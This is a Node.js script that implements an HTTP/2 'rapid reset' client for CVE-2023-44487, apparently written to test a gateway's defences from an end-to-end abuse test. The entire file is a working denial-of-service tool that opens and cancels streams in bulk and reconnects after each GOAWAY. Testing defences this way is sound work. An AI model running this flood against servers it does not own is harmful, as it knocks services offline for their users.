#!/usr/bin/env node
'use strict';
// An h2 "rapid reset" client (CVE-2023-44487), to check a gateway's defences: it opens a
// stream and resets it at once (RST_STREAM CANCEL), again and again, a new session whenever
// the server ends one (as an attacker would reconnect). Prints one JSON line:
// {"resets","sessions","goaways","refused","ms"}. Used by test/e2e/h2-abuse.e2e.test.ts.

const fs = require('node:fs');
const http2 = require('node:http2');
const { parseFlags, positiveInteger, optionsOrExit } = require('./cli');

const USAGE = `usage: node scripts/h2-rapid-reset.js --url https://host:port [--ca ca.pem] [--resets 10000]
       [--path /slow?ms=300] [--key API_KEY] [--per-turn 50] [--max-seconds 60]`;

function parse() {
  const v = parseFlags(process.argv.slice(2), {
    url: { type: 'string' },
    ca: { type: 'string' },
    resets: { type: 'string', default: '10000' },
    path: { type: 'string', default: '/' },
    key: { type: 'string' },
    'per-turn': { type: 'string', default: '50' },
    'max-seconds': { type: 'string', default: '60' },
    help: { type: 'boolean', default: false },
  });
  if (!v.help && v.url === undefined) throw new Error('--url is required');
  return {
    help: v.help, url: v.url, ca: v.ca === undefined ? undefined : fs.readFileSync(v.ca), path: v.path, key: v.key,
    resets: positiveInteger(v.resets, '--resets'), perTurn: positiveInteger(v['per-turn'], '--per-turn'),
    maxMs: positiveInteger(v['max-seconds'], '--max-seconds') * 1000,
  };
}

async function main() {
  const o = optionsOrExit('h2-rapid-reset', USAGE, parse);
  if (o === null) return;
  const report = { resets: 0, sessions: 0, goaways: 0, refused: 0, ms: 0 };
  const started = Date.now();
  const headers = { ':path': o.path };
  if (o.key !== undefined) headers['x-api-key'] = o.key;
  while (report.resets < o.resets && Date.now() - started < o.maxMs) {
    report.sessions += 1;
    const session = http2.connect(o.url, { ca: o.ca });
    // The server may end the session by GOAWAY or by closing the connection (FIN first).
    let gone = false;
    session.on('error', () => { gone = true; });
    session.on('goaway', () => { report.goaways += 1; gone = true; });
    session.on('close', () => { gone = true; });
    const connected = await new Promise((resolve) => {
      session.once('connect', () => resolve(true));
      session.once('close', () => resolve(false));
    });
    if (!connected) report.refused += 1;
    else session.socket.once('end', () => { gone = true; });
    while (connected && !gone && report.resets < o.resets) {
      for (let i = 0; i < o.perTurn && !gone; i++) {
        let stream;
        try {
          stream = session.request(headers);
        } catch {
          break;
        }
        stream.on('error', () => undefined);
        stream.close(http2.constants.NGHTTP2_CANCEL);
        report.resets += 1;
      }
      // A millisecond per batch lets the server's GOAWAY be read (a real attacker reconnects on it).
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
    session.destroy();
  }
  report.ms = Date.now() - started;
  process.stdout.write(`${JSON.stringify(report)}\n`);
}

main().catch((err) => {
  process.stderr.write(`h2-rapid-reset: ${err.message}\n`);
  process.exit(1);
});
